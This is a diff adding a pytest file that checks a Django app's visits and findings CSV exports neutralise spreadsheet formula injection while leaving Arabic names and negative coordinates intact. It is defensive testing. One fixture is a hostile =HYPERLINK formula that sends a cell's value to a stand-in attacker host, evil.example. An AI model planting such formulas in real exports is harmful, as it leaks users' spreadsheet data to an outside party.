@@ -1,0 +1,83 @@
+"""CSV formula injection (issue 11, item 16): every CSV neutralises text cells that a spreadsheet would run
+(= + - @ tab CR first), without touching Arabic text or negative numbers in numeric columns. Runs on
+SQLite (csv module) and, in CI's second pass, on PostgreSQL (COPY ... TO STDOUT)."""
+
+import csv
+import io
+from datetime import date
+
+import pytest
+
+from backend.csv_cells import csv_text_cell
+from inspections.models import Answer, Finding, Visit
+from tests.factories import ChecklistItemFactory, ChecklistVersionFactory, EstablishmentFactory, VisitFactory
+
+pytestmark = pytest.mark.django_db
+HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
+
+
+@pytest.fixture
+def visit(dammam):
+    version = ChecklistVersionFactory()
+    item = ChecklistItemFactory(version=version, code="MASKS", severity="major")
+    shop = EstablishmentFactory(
+        municipality=dammam, name_ar="مطعم -الريف- @الشرقية", name_en=HOSTILE, licence_no="+966-1"
+    )
+    found = VisitFactory(
+        establishment=shop, checklist_version=version, outcome=Visit.Outcome.VIOLATIONS, violation_count=1
+    )
+    Visit.objects.filter(pk=found.pk).update(lat=51.5074, lon=-0.1278)  # west of Greenwich: a negative number
+    answer = Answer.objects.create(visit=found, item=item, item_code="MASKS", value="no", failed=True)
+    Finding.objects.create(
+        visit=found,
+        answer=answer,
+        establishment=shop,
+        municipality=dammam,
+        item_code="MASKS",
+        severity="major",
+        fine_sar=500,
+        due_date=date(2026, 11, 10),
+        opened_at=found.finished_at,
+    )
+    return found
+
+
+def rows(response) -> list[dict]:
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+
+
+def test_visits_csv_neutralises_formulas_and_keeps_numbers_and_arabic(api, leader, visit):
+    (row,) = rows(api.as_user(leader).get("analytics/exports/visits.csv"))
+    assert row["establishment_en"] == "'" + HOSTILE
+    assert row["licence_no"] == "'+966-1"
+    assert row["establishment_ar"] == "مطعم -الريف- @الشرقية"  # Arabic first: untouched
+    assert float(row["lon"]) == pytest.approx(-0.1278) and row["lon"].startswith("-")
+    assert row["violation_count"] == "1"
+
+
+def test_findings_csv_neutralises_formulas(api, leader, visit):
+    (row,) = rows(api.as_user(leader).get("analytics/exports/findings.csv"))
+    assert row["establishment_en"] == "'" + HOSTILE
+    assert row["licence_no"] == "'+966-1"
+    assert row["fine_sar"].startswith("500")
+
+
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("بقالة =النور", "بقالة =النور"),
+        ("Al-Noor", "Al-Noor"),
+        ("", ""),
+        (-3.5, -3.5),
+        (None, None),
+    ],
+)
+def test_the_cell_rule(text, expected):
+    assert csv_text_cell(text) == expected
